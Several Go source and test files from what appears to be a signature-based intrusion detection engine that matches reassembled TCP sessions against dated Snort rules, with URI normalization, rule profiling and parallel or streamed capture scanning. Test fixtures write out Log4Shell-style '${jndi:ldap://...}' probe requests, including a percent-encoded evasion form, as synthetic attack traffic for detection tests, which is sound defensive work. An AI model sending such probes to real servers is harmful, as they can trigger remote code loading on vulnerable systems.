	stats.Packets = int(packets.Load())
	stats.DecodeErrors = int(decodeErrs.Load())
	for i, err := range errs {
		if err != nil {
			return nil, stats, fmt.Errorf("ids: segment %d: %w", i, err)
		}
	}
	events := MatchSessionsParallel(sessions, e, &stats, cfg.MatchWorkers)
	return events, stats, nil
}

// decodeLoop reads src to EOF, decoding each record into a pooled item and
// routing it to its flow's shard. Zero-copy sources lend the item's buffer
// to NextInto; others cost one copy per record.
func decodeLoop(src pcapio.PacketSource, f *tcpasm.Feeder, packets, decodeErrs *atomic.Int64) error {
	zc, zeroCopy := src.(pcapio.ZeroCopySource)
	var rec pcapio.Packet
	for {
		it := f.Get()
		var err error
		if zeroCopy {
			// Lend the item's buffer to the reader; take back whatever
			// (possibly grown) buffer it filled.
			rec.Data = it.Buf
			err = zc.NextInto(&rec)
			it.Buf = rec.Data
		} else {
			rec, err = src.Next()
			if err == nil {
				it.Buf = append(it.Buf[:0], rec.Data...)
			}
		}
		if err == io.EOF {
			f.Recycle(it)
			return nil
		}
		if err != nil {
			f.Recycle(it)
			return fmt.Errorf("reading capture: %w", err)
		}
		packets.Add(1)
		if derr := packet.DecodeInto(&it.Pkt, it.Buf); derr != nil {
			decodeErrs.Add(1)
			f.Recycle(it)
			continue
		}
		it.TS = rec.Timestamp
		f.Feed(it)
	}
}
