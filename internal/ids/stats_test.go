package ids

import (
	"fmt"
	"math/rand"
	"testing"
	"time"

	"repro/internal/packet"
	"repro/internal/tcpasm"
)

// seededWorkload builds a pseudo-random session mix (exploit payloads,
// noise, repeated sources, CVE-less rule hits) from a fixed seed, so the
// serial/parallel parity check runs over something closer to a real capture
// than the round-robin fixture.
func seededWorkload(t testing.TB, seed int64, n int) ([]tcpasm.Session, *Engine) {
	t.Helper()
	rng := rand.New(rand.NewSource(seed))
	sessions, engine := parallelFixture(t, 1)
	payloads := [][]byte{
		[]byte("GET /?x=${jndi:ldap://e} HTTP/1.1\r\nHost: h\r\n\r\n"),
		[]byte("GET /%24%7B(x)%7D/ HTTP/1.1\r\nHost: h\r\n\r\n"),
		[]byte("PUT /SDK/webLanguage HTTP/1.1\r\nHost: h\r\n\r\n"),
		[]byte("GET /robots.txt HTTP/1.1\r\nHost: h\r\n\r\n"),
		[]byte("HEAD / HTTP/1.0\r\n\r\n"),
	}
	base := time.Date(2022, 3, 1, 0, 0, 0, 0, time.UTC)
	out := make([]tcpasm.Session, n)
	for i := range out {
		// A third of traffic comes from a small repeat-scanner pool, so
		// DistinctSrcIPs genuinely deduplicates.
		var src string
		if rng.Intn(3) == 0 {
			src = fmt.Sprintf("198.51.100.%d", 1+rng.Intn(16))
		} else {
			src = fmt.Sprintf("203.0.%d.%d", rng.Intn(200), 1+rng.Intn(250))
		}
		out[i] = tcpasm.Session{
			Client:     packet.Endpoint{Addr: packet.MustAddr(src), Port: uint16(1024 + rng.Intn(60000))},
			Server:     sessions[0].Server,
			Start:      base.Add(time.Duration(rng.Intn(86400)) * time.Second),
			ClientData: payloads[rng.Intn(len(payloads))],
			Complete:   true,
		}
	}
	return out, engine
}

func TestStatsParitySerialParallelSeeded(t *testing.T) {
	for _, seed := range []int64{1, 7, 42} {
		sessions, engine := seededWorkload(t, seed, 900)
		var serial, par ScanStats
		se := MatchSessions(sessions, engine, &serial)
		pe := MatchSessionsParallel(sessions, engine, &par, 4)
		if len(se) != len(pe) {
			t.Fatalf("seed %d: %d serial events vs %d parallel", seed, len(se), len(pe))
		}
		for i := range se {
			if se[i] != pe[i] {
				t.Fatalf("seed %d: event %d differs:\n%+v\n%+v", seed, i, se[i], pe[i])
			}
		}
		if serial != par {
			t.Fatalf("seed %d: stats diverge:\nserial   %+v\nparallel %+v", seed, serial, par)
		}
		if serial.Sessions != 900 || serial.MatchedEvents == 0 || serial.DistinctSrcIPs == 0 {
			t.Fatalf("seed %d: implausible stats %+v", seed, serial)
		}
		if serial.DistinctSrcIPs >= serial.MatchedEvents && serial.MatchedEvents > 20 {
			t.Fatalf("seed %d: no source dedup happened: %+v", seed, serial)
		}
	}
}

func TestStatsBuilderIncrementalMatchesOneShot(t *testing.T) {
	sessions, engine := seededWorkload(t, 5, 600)
	var oneShot ScanStats
	events := MatchSessions(sessions, engine, &oneShot)

	// Feeding the same events in arbitrary batch splits must aggregate to
	// the identical stats — this is what the streaming ingest path relies on.
	b := NewStatsBuilder()
	b.AddSessions(200)
	b.AddSessions(400)
	for i := 0; i < len(events); i += 17 {
		end := i + 17
		if end > len(events) {
			end = len(events)
		}
		b.AddEvents(events[i:end])
	}
	if got := b.Stats(); got != oneShot {
		t.Fatalf("incremental %+v != one-shot %+v", got, oneShot)
	}
}
