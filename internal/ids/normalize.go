package ids

import "strings"

// URI normalization. Snort inspects http_uri content against the
// *normalized* request target precisely because scanners percent-encode
// exploit tokens to slip past literal matching (the Log4Shell variants of
// Table 6 are one instance of the same arms race). The engine therefore
// evaluates http_uri options against the raw target and, when it differs,
// the normalized form as well.

// NormalizeURI decodes percent-escapes (one pass — double-encoding is left
// for a second decode by the application and deliberately not chased),
// converts backslashes to slashes, and collapses "/./" and "//" path
// noise. Invalid escapes are preserved literally. The query string is
// decoded but otherwise untouched.
func NormalizeURI(uri string) string {
	decoded := percentDecode(uri)
	// Split off the query: path-structure cleanup applies to the path only.
	path := decoded
	query := ""
	if i := strings.IndexByte(decoded, '?'); i >= 0 {
		path, query = decoded[:i], decoded[i:]
	}
	path = normalizePath(path)
	return path + query
}

func percentDecode(s string) string {
	out := make([]byte, 0, len(s))
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c == '%' && i+2 < len(s) {
			hi, okHi := unhex(s[i+1])
			lo, okLo := unhex(s[i+2])
			if okHi && okLo {
				out = append(out, hi<<4|lo)
				i += 2
				continue
			}
		}
		if c == '+' {
			// '+' means space in query strings; in paths it is literal, but
			// Snort's normalizer treats it as space uniformly — scanners
			// exploit whichever reading the server takes.
			out = append(out, ' ')
			continue
		}
		out = append(out, c)
	}
	return string(out)
}

func unhex(c byte) (byte, bool) {
	switch {
	case c >= '0' && c <= '9':
		return c - '0', true
	case c >= 'a' && c <= 'f':
		return c - 'a' + 10, true
	case c >= 'A' && c <= 'F':
		return c - 'A' + 10, true
	default:
		return 0, false
	}
}

func normalizePath(p string) string {
	out := make([]byte, 0, len(p))
	for i := 0; i < len(p); i++ {
		c := p[i]
		if c == '\\' {
			c = '/'
		}
		if c == '/' {
			// Collapse "//" and "/./".
			if len(out) > 0 && out[len(out)-1] == '/' {
				continue
			}
			if len(out) >= 2 && out[len(out)-1] == '.' && out[len(out)-2] == '/' {
				out = out[:len(out)-1]
				continue
			}
		}
		out = append(out, c)
	}
	return string(out)
}
