package ids

import (
	"bytes"
	"fmt"
	"math/rand"
	"os"
	"path/filepath"
	"reflect"
	"testing"
	"time"

	"repro/internal/packet"
	"repro/internal/pcapio"
)

// packetWriter is the slice of pcapio writers the generator needs.
type packetWriter interface {
	WritePacket(ts time.Time, data []byte) error
}

// writeInterleavedCapture emits nFlows interleaved conversations — a mix of
// exploit ("${jndi:" payloads) and noise sessions, some left open, some
// separated by idle gaps — in non-decreasing timestamp order.
func writeInterleavedCapture(t testing.TB, w packetWriter, seed int64, nFlows int) {
	t.Helper()
	rng := rand.New(rand.NewSource(seed))
	bld := packet.NewBuilder(seed)
	ts := time.Date(2021, 12, 11, 0, 0, 0, 0, time.UTC)

	type script struct {
		segs []packet.Segment
		next int
	}
	flows := make([]*script, nFlows)
	for i := range flows {
		cli := packet.Endpoint{
			Addr: packet.MustAddr(fmt.Sprintf("203.0.113.%d", 1+rng.Intn(250))),
			Port: uint16(40000 + i),
		}
		srv := packet.Endpoint{
			Addr: packet.MustAddr(fmt.Sprintf("10.0.%d.%d", rng.Intn(8), 1+rng.Intn(250))),
			Port: []uint16{80, 8080, 443}[rng.Intn(3)],
		}
		payload := fmt.Sprintf("GET /robots%d.txt HTTP/1.1\r\nHost: h\r\n\r\n", i)
		if rng.Intn(3) == 0 {
			payload = fmt.Sprintf("GET /?x=${jndi:ldap://e%d/a} HTTP/1.1\r\nHost: h\r\n\r\n", i)
		}
		seq := rng.Uint32()
		sc := &script{segs: []packet.Segment{
			{Src: cli, Dst: srv, Seq: seq, Flags: packet.FlagSYN},
			{Src: srv, Dst: cli, Seq: 500, Ack: seq + 1, Flags: packet.FlagSYN | packet.FlagACK},
			{Src: cli, Dst: srv, Seq: seq + 1, Ack: 501, Flags: packet.FlagACK, Payload: []byte(payload)},
		}}
		if rng.Intn(4) != 0 { // most sessions close; the rest idle out or flush
			sc.segs = append(sc.segs,
				packet.Segment{Src: cli, Dst: srv, Seq: seq + 1 + uint32(len(payload)), Ack: 501, Flags: packet.FlagFIN | packet.FlagACK},
				packet.Segment{Src: srv, Dst: cli, Seq: 501, Ack: seq + 2 + uint32(len(payload)), Flags: packet.FlagFIN | packet.FlagACK},
			)
		}
		flows[i] = sc
	}
	live := make([]int, nFlows)
	for i := range live {
		live[i] = i
	}
	for len(live) > 0 {
		k := rng.Intn(len(live))
		sc := flows[live[k]]
		frame, err := bld.Build(sc.segs[sc.next])
		if err != nil {
			t.Fatal(err)
		}
		if err := w.WritePacket(ts, frame); err != nil {
			t.Fatal(err)
		}
		ts = ts.Add(time.Duration(1+rng.Intn(40)) * time.Millisecond)
		if rng.Intn(200) == 0 {
			ts = ts.Add(11 * time.Minute) // capture-wide lull: idles flows out
		}
		sc.next++
		if sc.next == len(sc.segs) {
			live = append(live[:k], live[k+1:]...)
		}
	}
	// One undecodable frame so DecodeErrors accounting is covered.
	if err := w.WritePacket(ts, []byte{0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 0x86, 0xdd, 0xff}); err != nil {
		t.Fatal(err)
	}
}

func diffEvents(t *testing.T, got, want []Event, gotStats, wantStats ScanStats) {
	t.Helper()
	if !reflect.DeepEqual(gotStats, wantStats) {
		t.Errorf("stats differ:\n got %+v\nwant %+v", gotStats, wantStats)
	}
	if len(got) != len(want) {
		t.Fatalf("got %d events, want %d", len(got), len(want))
	}
	for i := range got {
		if !reflect.DeepEqual(got[i], want[i]) {
			t.Fatalf("event %d differs:\n got %+v\nwant %+v", i, got[i], want[i])
		}
	}
}

// TestScanCaptureShardedParity: the parallel scan must reproduce the serial
// scan exactly — events, order, stats — for every shard count.
func TestScanCaptureShardedParity(t *testing.T) {
	var buf bytes.Buffer
	w, err := pcapio.NewWriter(&buf, pcapio.LinkTypeEthernet, pcapio.WithNanoPrecision())
	if err != nil {
		t.Fatal(err)
	}
	writeInterleavedCapture(t, w, 99, 60)
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	e := jndiEngine(t)

	serialR, err := pcapio.NewReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	wantEvents, wantStats, err := ScanCapture(serialR, e)
	if err != nil {
		t.Fatal(err)
	}
	if len(wantEvents) < 10 {
		t.Fatalf("weak test input: only %d events", len(wantEvents))
	}

	for _, shards := range []int{1, 3, 8} {
		for _, workers := range []int{1, 4} {
			t.Run(fmt.Sprintf("shards%d_workers%d", shards, workers), func(t *testing.T) {
				r, err := pcapio.NewReader(bytes.NewReader(buf.Bytes()))
				if err != nil {
					t.Fatal(err)
				}
				events, stats, err := ScanCaptureSharded(
					[]pcapio.PacketSource{r}, e,
					ScanConfig{Shards: shards, MatchWorkers: workers})
				if err != nil {
					t.Fatal(err)
				}
				diffEvents(t, events, wantEvents, stats, wantStats)
			})
		}
	}
}

// TestScanCaptureShardedSegments fans one decoder out per rotated segment
// and checks the result against a serial scan of the concatenated segments.
// Sessions span segment boundaries (rotation cuts mid-conversation), so this
// exercises the cross-feeder ordering guarantee end to end.
func TestScanCaptureShardedSegments(t *testing.T) {
	dir := t.TempDir()
	rw, err := pcapio.NewRotatingWriter(dir, "seg", pcapio.LinkTypeEthernet, 4096, pcapio.WithNanoPrecision())
	if err != nil {
		t.Fatal(err)
	}
	writeInterleavedCapture(t, rw, 7, 48)
	if err := rw.Close(); err != nil {
		t.Fatal(err)
	}
	files := rw.Files()
	if len(files) < 3 {
		t.Fatalf("want several segments, got %d", len(files))
	}
	e := jndiEngine(t)

	serial, err := pcapio.OpenFiles(files...)
	if err != nil {
		t.Fatal(err)
	}
	defer serial.Close()
	wantEvents, wantStats, err := ScanCapture(serial, e)
	if err != nil {
		t.Fatal(err)
	}
	if len(wantEvents) == 0 {
		t.Fatal("weak test input: no events")
	}

	srcs, closeAll := openSegments(t, files)
	defer closeAll()
	events, stats, err := ScanCaptureSharded(srcs, e, ScanConfig{Shards: 4})
	if err != nil {
		t.Fatal(err)
	}
	diffEvents(t, events, wantEvents, stats, wantStats)
}

// openSegments opens one independent source per capture file, in segment
// order — what waybackctl's replay does for the fan-out path.
func openSegments(t testing.TB, files []string) ([]pcapio.PacketSource, func()) {
	t.Helper()
	var srcs []pcapio.PacketSource
	var closers []*pcapio.MultiSource
	for _, f := range files {
		ms, err := pcapio.OpenFiles(f)
		if err != nil {
			t.Fatal(err)
		}
		srcs = append(srcs, ms)
		closers = append(closers, ms)
	}
	return srcs, func() {
		for _, c := range closers {
			c.Close()
		}
	}
}

// TestScanCaptureShardedErrors: a truncated segment must surface its error
// with segment attribution, and an empty source list must be rejected.
func TestScanCaptureShardedErrors(t *testing.T) {
	if _, _, err := ScanCaptureSharded(nil, jndiEngine(t), ScanConfig{}); err == nil {
		t.Error("empty source list accepted")
	}

	data := buildCapture(t)
	path := filepath.Join(t.TempDir(), "trunc.pcap")
	if err := os.WriteFile(path, data[:len(data)-4], 0o644); err != nil {
		t.Fatal(err)
	}
	src, err := pcapio.OpenFiles(path)
	if err != nil {
		t.Fatal(err)
	}
	defer src.Close()
	if _, _, err := ScanCaptureSharded([]pcapio.PacketSource{src}, jndiEngine(t), ScanConfig{}); err == nil {
		t.Error("truncated capture scanned without error")
	}
}
