package ids

import (
	"bytes"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"net/netip"
	"sort"
	"sync"
	"time"

	"repro/internal/packet"
	"repro/internal/rules"
	"repro/internal/tcpasm"
)

// Match is one rule that fired on a session.
type Match struct {
	Rule      *rules.DatedRule
	SID       int
	CVEs      []string
	Published time.Time
}

// Config configures the engine.
type Config struct {
	// PortInsensitive rewrites every rule's port constraints to `any`
	// before evaluation, as the paper does (Section 3.1).
	PortInsensitive bool
	// Env resolves $VAR address specifications. Unresolved variables match
	// everything.
	Env map[string][]netip.Prefix
	// DisablePrefilter turns off the Aho–Corasick candidate prefilter and
	// evaluates every rule against every session. Used by the ablation
	// bench; the results must be identical either way.
	DisablePrefilter bool
	// AutomatonCache, when non-nil, caches the compiled prefilter automaton
	// across engine builds, keyed by the (case-normalized) pattern set. The
	// ruleset registry points this at its generation directory so republishing
	// a ruleset reuses the compiled form instead of rebuilding 48k patterns.
	AutomatonCache AutomatonCache
}

// AutomatonCache stores serialized compiled automatons. Load returns nil on
// a miss; a corrupt entry is simply ignored (and overwritten) by the engine.
type AutomatonCache interface {
	Load(key string) []byte
	Store(key string, data []byte)
}

// Engine evaluates a dated ruleset over sessions.
type Engine struct {
	cfg      Config
	ruleset  []rules.DatedRule
	prefilt  *CompiledMatcher
	byPat    [][]int // pattern id -> rule indices
	noFastPS []int   // rules without a usable fast pattern: always candidates
	counters []ruleCounters
}

// scanScratchPool shares prefilter scratch between concurrent Match calls;
// every Engine's sessions go through it, so a steady-state pipeline scans
// without per-session allocations in the automaton.
var scanScratchPool = sync.Pool{New: func() any { return new(ScanScratch) }}

// NewEngine compiles the ruleset. Rules are copied; callers may mutate their
// slice afterwards.
func NewEngine(ruleset []rules.DatedRule, cfg Config) *Engine {
	e := &Engine{cfg: cfg}
	e.ruleset = make([]rules.DatedRule, len(ruleset))
	copy(e.ruleset, ruleset)
	if cfg.PortInsensitive {
		for i := range e.ruleset {
			e.ruleset[i].Rule = e.ruleset[i].Rule.PortInsensitive()
		}
	}
	var patterns [][]byte
	for i := range e.ruleset {
		fp := e.ruleset[i].Rule.FastPatternContent()
		if fp == nil {
			e.noFastPS = append(e.noFastPS, i)
			continue
		}
		// Reuse pattern slots for identical fast patterns.
		found := -1
		for pi, p := range patterns {
			if bytes.EqualFold(p, fp.Pattern) {
				found = pi
				break
			}
		}
		if found < 0 {
			patterns = append(patterns, fp.Pattern)
			e.byPat = append(e.byPat, nil)
			found = len(patterns) - 1
		}
		e.byPat[found] = append(e.byPat[found], i)
	}
	e.prefilt = compilePrefilter(patterns, cfg.AutomatonCache)
	e.counters = make([]ruleCounters, len(e.ruleset))
	return e
}

// compilePrefilter builds (or loads from cache) the compiled double-array
// automaton over the fast-pattern set.
func compilePrefilter(patterns [][]byte, cache AutomatonCache) *CompiledMatcher {
	if cache == nil {
		return Compile(patterns)
	}
	key := automatonKey(patterns)
	if raw := cache.Load(key); raw != nil {
		if m, err := LoadCompiledMatcher(raw); err == nil && m.NumPatterns() == len(patterns) {
			return m
		}
	}
	m := Compile(patterns)
	cache.Store(key, m.AppendBinary(nil))
	return m
}

// automatonKey hashes the pattern sequence (case-normalized, as the
// automaton matches) into a cache key. Pattern order matters: prefilter IDs
// are positional.
func automatonKey(patterns [][]byte) string {
	h := sha256.New()
	var lenb [8]byte
	for _, p := range patterns {
		lp := toLowerBytes(p)
		binary.LittleEndian.PutUint64(lenb[:], uint64(len(lp)))
		h.Write(lenb[:])
		h.Write(lp)
	}
	return hex.EncodeToString(h.Sum(nil))
}

// NumRules returns the number of compiled rules.
func (e *Engine) NumRules() int { return len(e.ruleset) }

// Match evaluates the session against the whole ruleset and returns every
// firing rule, sorted by rule publication time then SID.
func (e *Engine) Match(s *tcpasm.Session) []Match {
	bufs := ExtractBuffers(s.ClientData)
	var candidates []int
	if e.cfg.DisablePrefilter {
		candidates = make([]int, len(e.ruleset))
		for i := range candidates {
			candidates[i] = i
		}
	} else {
		candidates = append(candidates, e.noFastPS...)
		seen := map[int32]struct{}{}
		hit := func(id int32) {
			if _, dup := seen[id]; dup {
				return
			}
			seen[id] = struct{}{}
			candidates = append(candidates, e.byPat[id]...)
		}
		scratch := scanScratchPool.Get().(*ScanScratch)
		e.prefilt.Scan(s.ClientData, scratch, hit)
		if len(s.ServerData) > 0 {
			// to_client rules inspect the server stream.
			e.prefilt.Scan(s.ServerData, scratch, hit)
		}
		// Decoded views must reach the full evaluation too: a percent-
		// encoded URI or a chunk-split body hides its fast pattern from the
		// raw scan.
		for i := range bufs.Requests {
			req := &bufs.Requests[i]
			if norm := NormalizeURI(req.URI); norm != req.URI {
				e.prefilt.Scan([]byte(norm), scratch, hit)
			}
			if req.Body != "" && !bytes.Contains(s.ClientData, []byte(req.Body)) {
				e.prefilt.Scan([]byte(req.Body), scratch, hit)
			}
		}
		scanScratchPool.Put(scratch)
	}
	var out []Match
	for _, ri := range candidates {
		dr := &e.ruleset[ri]
		e.counters[ri].evaluated.Add(1)
		if e.ruleMatches(dr.Rule, s, &bufs) {
			e.counters[ri].matched.Add(1)
			out = append(out, Match{
				Rule:      dr,
				SID:       dr.Rule.SID,
				CVEs:      dr.Rule.CVEs(),
				Published: dr.Published,
			})
		}
	}
	sort.Slice(out, func(i, j int) bool {
		if !out[i].Published.Equal(out[j].Published) {
			return out[i].Published.Before(out[j].Published)
		}
		return out[i].SID < out[j].SID
	})
	return out
}

// Earliest returns the earliest-published match, following the paper's
// retention policy ("for each TCP session, we retain only the
// earliest-published matching IDS signature"). The second result is false
// when no rule matched.
func (e *Engine) Earliest(s *tcpasm.Session) (Match, bool) {
	ms := e.Match(s)
	if len(ms) == 0 {
		return Match{}, false
	}
	return ms[0], true
}

// ruleMatches applies header then payload checks.
func (e *Engine) ruleMatches(r *rules.Rule, s *tcpasm.Session, bufs *Buffers) bool {
	if r.Proto != rules.ProtoTCP && r.Proto != rules.ProtoIP {
		return false
	}
	headerOK := e.headerMatches(r, s.Client, s.Server)
	if !headerOK && r.Dir == rules.DirBidirectional {
		headerOK = e.headerMatches(r, s.Server, s.Client)
	}
	if !headerOK {
		return false
	}
	if r.Flow.ToClient && !r.Flow.ToServer {
		// The telescope sends no application data, so to_client-only rules
		// can never fire on its captures; evaluated for completeness.
		return len(s.ServerData) > 0 && payloadMatches(r, &Buffers{Raw: s.ServerData})
	}
	if r.Flow.Established && !s.Complete {
		// Established-only rules need a full handshake. Mid-stream pickups
		// are not established from the IDS's perspective.
		return false
	}
	return payloadMatches(r, bufs)
}

// headerMatches checks the rule header against a (src=client, dst=server)
// endpoint assignment.
func (e *Engine) headerMatches(r *rules.Rule, src, dst packet.Endpoint) bool {
	return r.SrcAddr.Contains(src.Addr, e.cfg.Env) &&
		r.DstAddr.Contains(dst.Addr, e.cfg.Env) &&
		r.SrcPorts.Contains(src.Port) &&
		r.DstPorts.Contains(dst.Port)
}

// payloadMatches evaluates contents (in order, with positional state per
// buffer), pcres, and size tests.
func payloadMatches(r *rules.Rule, bufs *Buffers) bool {
	if r.Dsize != nil && !r.Dsize.Matches(len(bufs.Raw)) {
		return false
	}
	for _, d := range r.IsDataAts {
		has := d.Offset < len(bufs.Raw)
		if has == d.Negated {
			return false
		}
	}
	for _, bt := range r.ByteTests {
		if !bt.Eval(bufs.Raw, 0) {
			return false
		}
	}
	if r.Urilen != nil {
		ok := false
		for i := range bufs.Requests {
			if r.Urilen.Matches(len(bufs.Requests[i].URI)) {
				ok = true
				break
			}
		}
		if !ok {
			return false
		}
	}
	if len(r.Contents) == 0 && len(r.PCREs) == 0 {
		// Header/size-only rule: everything above already matched.
		return true
	}
	// HTTP-buffer rules evaluate per request; raw-only rules evaluate once.
	// A rule matches if any single request (plus the raw stream) satisfies
	// every option. http_uri options additionally see the normalized
	// request target (Snort semantics: percent-encoding must not evade
	// URI-bound signatures).
	n := len(bufs.Requests)
	if n == 0 {
		n = 1 // evaluate once with empty HTTP buffers
	}
	for reqIdx := 0; reqIdx < n; reqIdx++ {
		if payloadMatchesForRequest(r, bufs, reqIdx, nil) {
			return true
		}
		if reqIdx < len(bufs.Requests) {
			raw := bufs.Requests[reqIdx].URI
			if norm := NormalizeURI(raw); norm != raw {
				if payloadMatchesForRequest(r, bufs, reqIdx, []byte(norm)) {
					return true
				}
			}
		}
	}
	return false
}

// payloadMatchesForRequest checks all options against request reqIdx's
// buffers (and the raw stream). uriOverride, when non-nil, replaces the
// http_uri buffer text (the normalized-target pass).
func payloadMatchesForRequest(r *rules.Rule, bufs *Buffers, reqIdx int, uriOverride []byte) bool {
	uriText := func(text []byte, buf rules.Buffer) []byte {
		if buf == rules.BufHTTPURI && uriOverride != nil {
			return uriOverride
		}
		return text
	}
	// cursor tracks the end of the previous content match per buffer for
	// distance/within semantics.
	cursor := map[rules.Buffer]int{}
	for i := range r.Contents {
		c := &r.Contents[i]
		text := uriText(bufferTextFor(bufs, c.Buffer, reqIdx), c.Buffer)
		pos, ok := findContent(text, c, cursor[c.Buffer])
		if c.Negated {
			if ok {
				return false
			}
			continue
		}
		if !ok {
			return false
		}
		end := pos + len(c.Pattern)
		cursor[c.Buffer] = end
		for _, d := range c.DataAts {
			has := end+d.Offset < len(text)
			if has == d.Negated {
				return false
			}
		}
		for _, bt := range c.ByteTests {
			if !bt.Eval(text, end) {
				return false
			}
		}
	}
	for i := range r.PCREs {
		p := &r.PCREs[i]
		text := uriText(bufferTextFor(bufs, p.Buffer, reqIdx), p.Buffer)
		matched := p.Re.Match(text)
		if matched == p.Negated {
			return false
		}
	}
	return true
}

// bufferTextFor returns the inspection text of buf for request reqIdx.
func bufferTextFor(bufs *Buffers, buf rules.Buffer, reqIdx int) []byte {
	if buf == rules.BufRaw {
		return bufs.Raw
	}
	if reqIdx >= len(bufs.Requests) {
		return nil
	}
	req := &bufs.Requests[reqIdx]
	switch buf {
	case rules.BufHTTPMethod:
		return []byte(req.Method)
	case rules.BufHTTPURI, rules.BufHTTPRawURI:
		return []byte(req.URI)
	case rules.BufHTTPHeader:
		return []byte(req.Headers)
	case rules.BufHTTPCookie:
		return []byte(req.Cookie)
	case rules.BufHTTPBody:
		return []byte(req.Body)
	default:
		return nil
	}
}

// findContent locates pattern c in text honoring positional modifiers.
// prevEnd is the end offset of the previous content match in this buffer
// (zero when none). It returns the match start and success.
func findContent(text []byte, c *rules.Content, prevEnd int) (int, bool) {
	start := 0
	end := len(text)
	switch {
	case c.Distance != nil || c.Within != nil:
		start = prevEnd
		if c.Distance != nil {
			start += *c.Distance
		}
		if c.Within != nil {
			lim := start + *c.Within
			if lim < end {
				end = lim
			}
		}
	default:
		if c.Offset != nil {
			start = *c.Offset
		}
		if c.Depth != nil {
			lim := start + *c.Depth
			if lim < end {
				end = lim
			}
		}
	}
	if start < 0 {
		start = 0
	}
	if start > len(text) || start > end {
		return 0, false
	}
	window := text[start:end]
	var idx int
	if c.Nocase {
		idx = indexFold(window, c.Pattern)
	} else {
		idx = bytes.Index(window, c.Pattern)
	}
	if idx < 0 {
		return 0, false
	}
	return start + idx, true
}

// indexFold is bytes.Index with ASCII case folding.
func indexFold(haystack, needle []byte) int {
	if len(needle) == 0 {
		return 0
	}
	if len(needle) > len(haystack) {
		return -1
	}
	first := foldByte(needle[0])
	for i := 0; i+len(needle) <= len(haystack); i++ {
		if foldByte(haystack[i]) != first {
			continue
		}
		ok := true
		for j := 1; j < len(needle); j++ {
			if foldByte(haystack[i+j]) != foldByte(needle[j]) {
				ok = false
				break
			}
		}
		if ok {
			return i
		}
	}
	return -1
}

func foldByte(c byte) byte {
	if c >= 'A' && c <= 'Z' {
		return c + 'a' - 'A'
	}
	return c
}
