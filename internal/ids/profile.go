package ids

import (
	"sort"
	"sync/atomic"
)

// Rule profiling: per-SID evaluation and match counters, the data Snort's
// rule-profiling facility exposes so operators can spot hot or dead rules.
// Counters are atomic, so the parallel matcher updates them safely; they
// accumulate across Match calls until ResetProfile.

// ruleCounters holds one rule's counters.
type ruleCounters struct {
	evaluated atomic.Int64
	matched   atomic.Int64
}

// RuleProfile is one rule's profiling snapshot.
type RuleProfile struct {
	SID int
	// Evaluated counts full evaluations (post-prefilter candidacy).
	Evaluated int64
	// Matched counts successful matches.
	Matched int64
}

// Profile returns per-rule counters sorted by evaluation count (hottest
// first). Rules never evaluated are included with zeros, so dead rules —
// patterns that no traffic ever reaches — are visible too.
func (e *Engine) Profile() []RuleProfile {
	out := make([]RuleProfile, len(e.ruleset))
	for i := range e.ruleset {
		out[i] = RuleProfile{
			SID:       e.ruleset[i].Rule.SID,
			Evaluated: e.counters[i].evaluated.Load(),
			Matched:   e.counters[i].matched.Load(),
		}
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Evaluated != out[j].Evaluated {
			return out[i].Evaluated > out[j].Evaluated
		}
		return out[i].SID < out[j].SID
	})
	return out
}

// ResetProfile zeroes all counters.
func (e *Engine) ResetProfile() {
	for i := range e.counters {
		e.counters[i].evaluated.Store(0)
		e.counters[i].matched.Store(0)
	}
}
