package ids

import (
	"fmt"
	"sync"
	"sync/atomic"

	"repro/internal/pcapio"
	"repro/internal/tcpasm"
)

// ScanCaptureStreamed is ScanCaptureSharded with streaming emission: instead
// of accumulating every session until the capture ends, completed sessions
// flow straight from the shard workers through a matcher goroutine to sink,
// so peak memory is bounded by the in-flight window rather than the capture
// size. The trade: events reach sink in completion order, not the canonical
// (End, Start, Client, Server) order, and no event slice is returned — exact
// aggregate stats still are, via the order-independent StatsBuilder.
//
// sink is called from a single goroutine; each call owns its slice. A sink
// error stops delivery (the capture is still drained to keep the pipeline
// from deadlocking) and is returned after the scan's own errors.
func ScanCaptureStreamed(srcs []pcapio.PacketSource, e *Engine, cfg ScanConfig, sink func([]Event) error) (ScanStats, error) {
	var stats ScanStats
	if len(srcs) == 0 {
		return stats, fmt.Errorf("ids: no capture sources")
	}
	acfg := cfg.Assembler
	if cfg.Shards != 0 {
		acfg.Shards = cfg.Shards
	}
	if cfg.DisjointSegments {
		acfg.FlowDisjointFeeders = true
	}

	// Shard workers hand session batches to the matcher goroutine over a
	// bounded channel: matching overlaps with reassembly and decode, and
	// backpressure from a slow sink propagates all the way to generation.
	sessCh := make(chan []tcpasm.Session, 4)
	acfg.Emit = func(batch []tcpasm.Session) { sessCh <- batch }

	sb := NewStatsBuilder()
	var sinkErr error
	matcherDone := make(chan struct{})
	go func() {
		defer close(matcherDone)
		for batch := range sessCh {
			events := MatchSessionsParallel(batch, e, nil, cfg.MatchWorkers)
			sb.AddSessionBatch(batch)
			sb.AddEvents(events)
			if sinkErr == nil && len(events) > 0 {
				sinkErr = sink(events)
			}
		}
	}()

	asm := tcpasm.NewSharded(acfg, len(srcs))
	var packets, decodeErrs atomic.Int64
	errs := make([]error, len(srcs))
	var wg sync.WaitGroup
	for i, src := range srcs {
		wg.Add(1)
		go func(i int, src pcapio.PacketSource) {
			defer wg.Done()
			f := asm.Feeder(i)
			defer f.Close()
			errs[i] = decodeLoop(src, f, &packets, &decodeErrs)
		}(i, src)
	}
	wg.Wait()
	asm.Wait() // returns nil under Emit; waits for the final flush batches
	close(sessCh)
	<-matcherDone

	agg := sb.Stats()
	stats.Packets = int(packets.Load())
	stats.DecodeErrors = int(decodeErrs.Load())
	stats.Sessions = agg.Sessions
	stats.MatchedEvents = agg.MatchedEvents
	stats.DistinctCVEs = agg.DistinctCVEs
	stats.DistinctSrcIPs = agg.DistinctSrcIPs
	stats.AmbiguousSessions = agg.AmbiguousSessions
	for i, err := range errs {
		if err != nil {
			return stats, fmt.Errorf("ids: segment %d: %w", i, err)
		}
	}
	return stats, sinkErr
}
