package ids

import (
	"bytes"
	"errors"
	"fmt"
	"reflect"
	"sort"
	"testing"

	"repro/internal/pcapio"
)

// sortEventsCanonical imposes a total order so the streamed scan's
// completion-ordered output can be compared against the batch scan's.
